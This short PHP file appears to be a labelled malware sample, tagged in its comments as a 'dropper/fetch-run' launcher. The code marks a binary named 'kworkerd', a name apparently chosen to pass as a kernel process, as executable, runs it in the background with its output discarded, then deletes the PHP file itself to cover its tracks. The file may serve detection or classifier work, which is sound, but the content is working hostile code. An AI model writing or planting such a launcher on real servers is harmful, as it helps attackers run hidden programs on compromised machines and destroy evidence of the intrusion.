<?php
// Family: dropper/fetch-run
// Style: launcher for a binary dropped next to it
// Trait: chmod 0755 on a non-PHP file in the same directory, run in the background with its output thrown away, then the launcher deletes itself
chmod('kworkerd', 0755);
exec('./kworkerd -c cfg.json > /dev/null 2>&1 &');
sleep(2);
@unlink(__FILE__);
